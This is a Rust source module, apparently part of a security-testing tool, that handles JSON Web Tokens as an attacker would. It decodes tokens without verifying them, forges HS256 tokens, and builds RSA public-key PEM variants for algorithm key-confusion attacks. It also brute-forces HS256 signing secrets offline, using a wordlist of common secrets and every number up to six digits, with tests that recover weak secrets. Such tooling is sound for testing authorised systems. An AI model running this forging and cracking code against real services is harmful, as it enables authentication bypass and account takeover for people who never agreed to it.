//! JSON Web Tokens as an attacker handles them: read without verifying, re-signed, forged,
//! and an HS256 secret searched for offline among common secrets and every number of up to
//! six digits.

use base64::Engine as _;
use serde_json::Value;

/// Base64url without padding.
pub fn b64d(s: &str) -> Option<Vec<u8>> {
    base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(s)
        .ok()
}

/// Base64url without padding.
pub fn b64e(b: &[u8]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(b)
}

/// A decoded token.
#[derive(Debug, Clone)]
pub struct Jwt {
    /// Its header.
    pub header: Value,
    /// Its claims.
    pub claims: Value,
    /// The signature, as sent.
    pub signature: String,
    /// `header.claims` as sent (the signed input).
    pub input: String,
}

impl Jwt {
    /// Reads a token (with or without `Bearer `).
    pub fn parse(value: &str) -> Option<Jwt> {
        let t = value.strip_prefix("Bearer ").unwrap_or(value);
        let mut it = t.split('.');
        let (h, p, s) = (it.next()?, it.next()?, it.next()?);
        if it.next().is_some() {
            return None;
        }
        Some(Jwt {
            header: serde_json::from_slice(&b64d(h)?).ok()?,
            claims: serde_json::from_slice(&b64d(p)?).ok()?,
            signature: s.to_string(),
            input: format!("{h}.{p}"),
        })
    }

    /// The algorithm.
    pub fn alg(&self) -> &str {
        self.header.get("alg").and_then(Value::as_str).unwrap_or("")
    }
}

/// Sets a member of a JSON object (nothing for other values).
pub fn set(v: &mut Value, key: &str, x: Value) {
    if let Some(m) = v.as_object_mut() {
        m.insert(key.to_string(), x);
    }
}

/// `header.claims` encoded.
pub fn unsigned(header: &Value, claims: &Value) -> String {
    format!(
        "{}.{}",
        b64e(header.to_string().as_bytes()),
        b64e(claims.to_string().as_bytes())
    )
}

/// An HS256 token over these parts.
pub fn hs256(header: &Value, claims: &Value, secret: &[u8]) -> String {
    let input = unsigned(header, claims);
    let k = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret);
    let tag = aws_lc_rs::hmac::sign(&k, input.as_bytes());
    format!("{input}.{}", b64e(tag.as_ref()))
}

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let n = content.len();
    if n < 0x80 {
        out.push(n as u8);
    } else {
        let bytes: Vec<u8> = n
            .to_be_bytes()
            .iter()
            .copied()
            .skip_while(|b| *b == 0)
            .collect();
        out.push(0x80 | bytes.len() as u8);
        out.extend(bytes);
    }
    out.extend_from_slice(content);
    out
}

fn der_uint(b: &[u8]) -> Vec<u8> {
    let b: Vec<u8> = b.iter().copied().skip_while(|x| *x == 0).collect();
    let mut v = Vec::with_capacity(b.len() + 1);
    if b.first().is_none_or(|x| x & 0x80 != 0) {
        v.push(0);
    }
    v.extend(b);
    der(0x02, &v)
}

fn pem(label: &str, der: &[u8]) -> String {
    let b64 = base64::engine::general_purpose::STANDARD.encode(der);
    let mut out = format!("-----BEGIN {label}-----\n");
    for chunk in b64.as_bytes().chunks(64) {
        out.push_str(&String::from_utf8_lossy(chunk));
        out.push('\n');
    }
    out.push_str(&format!("-----END {label}-----\n"));
    out
}

/// The texts a server may hold an RSA public key as (from a JWK's `n` and `e`): PEM of the
/// SubjectPublicKeyInfo with and without its final newline, and PEM of the PKCS#1 key. A
/// server that verifies an HS256 token with one of them as the HMAC key (key confusion) lets
/// anyone who has the public key sign tokens.
pub fn rsa_pems(n: &[u8], e: &[u8]) -> Vec<String> {
    let mut pkcs1 = der_uint(n);
    pkcs1.extend(der_uint(e));
    let pkcs1 = der(0x30, &pkcs1);
    let alg = [
        0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00,
    ];
    let mut bits = vec![0u8];
    bits.extend(&pkcs1);
    let mut spki = alg.to_vec();
    spki.extend(der(0x03, &bits));
    let spki = der(0x30, &spki);
    let with_newline = pem("PUBLIC KEY", &spki);
    let without = with_newline.trim_end().to_string();
    vec![with_newline, without, pem("RSA PUBLIC KEY", &pkcs1)]
}

/// Words secrets are made of; [`candidates`] adds the usual variations.
const WORDS: &[&str] = &[
    "secret",
    "password",
    "changeme",
    "key",
    "jwt",
    "admin",
    "test",
    "qwerty",
    "letmein",
    "supersecret",
    "secretkey",
    "jwt_secret",
    "jwtsecret",
    "jwt-secret",
    "your-256-bit-secret",
    "your-secret-key",
    "mysecret",
    "my-secret",
    "my_secret",
    "default",
    "token",
    "passw0rd",
    "s3cr3t",
    "hmac",
    "development",
    "dev",
    "example",
    "sample",
    "demo",
    "local",
    "localhost",
    "production",
    "prod",
    "staging",
    "master",
    "root",
    "toor",
    "pass",
    "access",
    "auth",
    "authentication",
    "signing",
    "signingkey",
    "signing-key",
    "private",
    "privatekey",
    "shhhhh",
    "shhh",
    "keyboardcat",
    "keyboard cat",
    "nodejs",
    "express",
    "django",
    "flask",
    "rails",
    "laravel",
    "spring",
    "springboot",
    "symfony",
    "api",
    "apikey",
    "api_key",
    "apisecret",
    "api-secret",
    "app",
    "appsecret",
    "app_secret",
    "application",
    "server",
    "service",
    "backend",
    "web",
    "website",
    "user",
    "users",
    "login",
    "session",
    "sessionsecret",
    "cookie",
    "cookiesecret",
    "super-secret",
    "super_secret",
    "topsecret",
    "top-secret",
    "hidden",
    "unknown",
    "none",
    "null",
    "undefined",
    "empty",
    "abc",
    "abcd",
    "abcdef",
    "abc123",
    "iloveyou",
    "princess",
    "dragon",
    "monkey",
    "football",
    "baseball",
    "sunshine",
    "welcome",
    "shadow",
    "trustno1",
    "hello",
    "hellothere",
    "hello world",
    "helloworld",
    "foobar",
    "foo",
    "bar",
    "baz",
    "qwertyuiop",
    "asdf",
    "asdfgh",
    "zxcvbn",
    "secret-key",
    "secret_key",
    "SECRET_KEY",
    "JWT_SECRET",
    "TOKEN_SECRET",
    "tokensecret",
    "token_secret",
    "token-secret",
    "accesstoken",
    "access_token",
    "refresh",
    "refreshtoken",
    "gateway",
    "kong",
    "keycloak",
    "okta",
    "auth0",
    "firebase",
    "supabase",
    "hasura",
    "strapi",
    "ghost",
    "wordpress",
    "drupal",
    "joomla",
    "magento",
    "shopify",
    "stripe",
    "company",
    "corp",
    "internal",
    "intranet",
    "mycompany",
    "acme",
    "contoso",
    "northwind",
    "crapi",
    "vampi",
    "juice",
    "juiceshop",
    "dvwa",
    "webgoat",
    "hackme",
    "hacker",
    "pentest",
    "security",
    "insecure",
    "weak",
    "simple",
    "easy",
    "random",
    "randomkey",
    "random-key",
    "temp",
    "tmp",
    "temporary",
    "changeit",
    "change-me",
    "change_me",
    "replaceme",
    "replace-me",
    "todo",
    "fixme",
    "xxx",
    "xxxx",
    "zzz",
];

/// Suffixes added to each word (and to its capitalised form).
const SUFFIXES: &[&str] = &[
    "", "1", "12", "123", "1234", "12345", "!", "!!", "@123", "#", "0", "01", "2020", "2021",
    "2022", "2023", "2024", "2025", "2026", "_secret", "-secret", "secret", "key", "_key", "-key",
    "_jwt", "-jwt", "_dev", "_prod", "_test",
];

/// Every candidate secret: the words with their variations (a few thousand), then every
/// number from 0 to 999999, then the zero-padded four- and six-digit ones.
pub fn candidates() -> impl Iterator<Item = String> {
    let words = WORDS.iter().flat_map(|w| {
        let cap = {
            let mut c = w.chars();
            c.next()
                .map(|f| f.to_uppercase().collect::<String>() + c.as_str())
                .unwrap_or_default()
        };
        let upper = w.to_uppercase();
        SUFFIXES.iter().flat_map(move |s| {
            [
                format!("{w}{s}"),
                format!("{cap}{s}"),
                format!("{upper}{s}"),
            ]
        })
    });
    let numbers = (0..1_000_000u32).map(|n| n.to_string());
    let pins = (0..10_000u32).map(|n| format!("{n:04}"));
    let six = (0..100_000u32).map(|n| format!("{n:06}"));
    words.chain(numbers).chain(pins).chain(six)
}

/// How many candidates [`search`] tries.
pub fn candidate_count() -> usize {
    WORDS.len() * SUFFIXES.len() * 3 + 1_000_000 + 10_000 + 100_000
}

/// The HS256 secret of a token among [`candidates`], if it is one of them. About a second
/// for the whole list in an optimised build.
pub fn search(token: &Jwt) -> Option<String> {
    let want = b64d(&token.signature)?;
    let input = token.input.as_bytes();
    candidates().find(|c| {
        let k = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, c.as_bytes());
        aws_lc_rs::hmac::verify(&k, input, &want).is_ok()
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn rsa_public_keys_are_written_as_openssl_writes_them() {
        // a 2048-bit key made by aws-lc: its SubjectPublicKeyInfo, as the library writes it
        use aws_lc_rs::encoding::AsDer as _;
        use aws_lc_rs::signature::KeyPair as _;
        let k = aws_lc_rs::rsa::KeyPair::generate(aws_lc_rs::rsa::KeySize::Rsa2048).unwrap();
        let public = k.public_key();
        let spki = public.as_der().unwrap();
        let want = pem("PUBLIC KEY", spki.as_ref());
        let n = public.modulus().big_endian_without_leading_zero().to_vec();
        let e = public.exponent().big_endian_without_leading_zero().to_vec();
        let got = rsa_pems(&n, &e);
        assert_eq!(got[0], want);
        assert_eq!(got[2], pem("RSA PUBLIC KEY", public.as_ref()));
    }

    #[test]
    fn numeric_and_word_secrets_are_found_and_strong_ones_are_not() {
        let h = json!({"alg": "HS256", "typ": "JWT"});
        let c = json!({"sub": "alice"});
        for secret in ["482913", "0042", "Changeme2024", "keyboard cat"] {
            let t = Jwt::parse(&hs256(&h, &c, secret.as_bytes())).unwrap();
            assert_eq!(search(&t).as_deref(), Some(secret));
        }
        let t = Jwt::parse(&hs256(&h, &c, b"a-long-random-secret-6f1c2a9e0b7d44e8a1c3")).unwrap();
        assert_eq!(search(&t), None);
        assert!(candidate_count() > 1_100_000);
        assert_eq!(candidates().count(), candidate_count());
    }
}
